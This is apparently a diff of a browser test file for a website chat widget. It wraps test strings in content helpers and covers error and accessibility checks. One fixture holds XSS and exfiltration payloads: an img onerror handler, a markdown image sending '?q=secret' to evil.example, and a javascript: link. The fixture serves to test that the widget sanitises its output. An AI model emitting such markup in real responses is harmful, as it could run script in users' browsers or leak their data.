@@ -6,6 +6,7 @@ import { LanguageModelStandIn } from '../api/support/language-model.js';
 import { firstOf, forReleases } from '../jest/for-releases.js';
 import { violations } from './support/axe.js';
 import { hold } from './support/back-office.js';
+import { asContent, asSaid } from './support/pseudo-language.ts';
 import { useSite, type Visit, wake } from './support/site.js';
 import { eventually } from './support/watched-page.js';
 
@@ -339,7 +340,9 @@ describe('a conversation', () => {
     await log(page).getByRole('link', { name: 'Write to us' }).waitFor();
     expect(await windowOf(page).getByRole('button', { name: 'Send' }).isDisabled()).toBe(true);
     await page.unroute('**/api/bot_check/challenge');
-    await page.route('**/api/chat', (route) => route.fulfill({ status: 503, json: { message: 'Please come again.' } }));
+    await page.route('**/api/chat', (route) =>
+      route.fulfill({ status: 503, json: { message: asSaid('Please come again.') } }),
+    );
     await log(page).getByRole('button', { name: 'Try again' }).click();
 
     const failure = log(page).getByRole('alert').filter({ hasText: 'The answer did not arrive.' });
@@ -376,12 +379,13 @@ describe('a conversation', () => {
     page.on('request', (request) => {
       if (!request.url().startsWith(site.url)) foreign.push(request.url());
     });
-    const text =
+    const text = asContent(
       '<img src=x onerror="document.title=1"> ![pixel](https://evil.example/p.png?q=secret) [Click](https://evil.example) ' +
-      '[run](javascript:alert(1)) **bold** [home](/solutions)';
+        '[run](javascript:alert(1)) **bold** [home](/solutions)',
+    );
     const events = [
       ['text', { text }],
-      ['sources', { sources: [{ kind: 'page', title: 'Evil', path: 'https://evil.example/' }] }],
+      ['sources', { sources: [{ kind: 'page', title: asContent('Evil'), path: 'https://evil.example/' }] }],
       ['done', { conversation: 'x', kind: 'sure', answered: true, question: 1 }],
     ].map(([event, data]) => `event: ${event}\ndata: ${JSON.stringify(data)}\n\n`);
     await page.route('**/api/chat', (route) =>
@@ -642,7 +646,7 @@ describe.each(firstOf(1, ['light', 'dark'] as const))('in the %s scheme', (color
       await field(page).fill('x'.repeat(1001));
       expect(await violations(page)).toEqual([]);
       await page.route('**/api/chat', (route) => route.fulfill({ status: 503, json: {} }));
-      await ask(page, 'Why?');
+      await ask(page, asContent('Why?'));
       await log(page).getByText('The answer did not arrive.').waitFor();
       await log(page).getByText('Your question is kept.').waitFor();
       expect(await violations(page)).toEqual([]);
